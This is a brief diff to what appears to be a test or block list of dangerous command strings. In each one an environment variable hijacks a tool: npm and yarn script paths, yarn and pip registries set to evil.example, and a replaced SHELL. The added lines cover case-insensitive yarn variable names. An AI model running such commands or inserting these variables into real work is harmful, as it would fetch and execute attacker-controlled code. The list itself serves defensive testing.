@@ -459,6 +459,8 @@ ENVIRONMENT = [
     "Npm_Config_Script_Shell=/workspace/x.sh npm test",
     "YARN_YARN_PATH=/workspace/x.cjs yarn install",  # second review, 2026-12-07
     "YARN_NPM_REGISTRY_SERVER=https://evil.example yarn install",
+    "yarn_yarn_path=/workspace/x.cjs yarn install",  # yarn reads names in any case
+    "Yarn_Npm_Registry_Server=https://evil.example yarn install",
     "SHELL=/tmp/evil tmux",
     # Package sources and build/test tools' plugins: code the command line does not show.
     "PIP_INDEX_URL=https://evil.example/simple pip install -r requirements.txt",
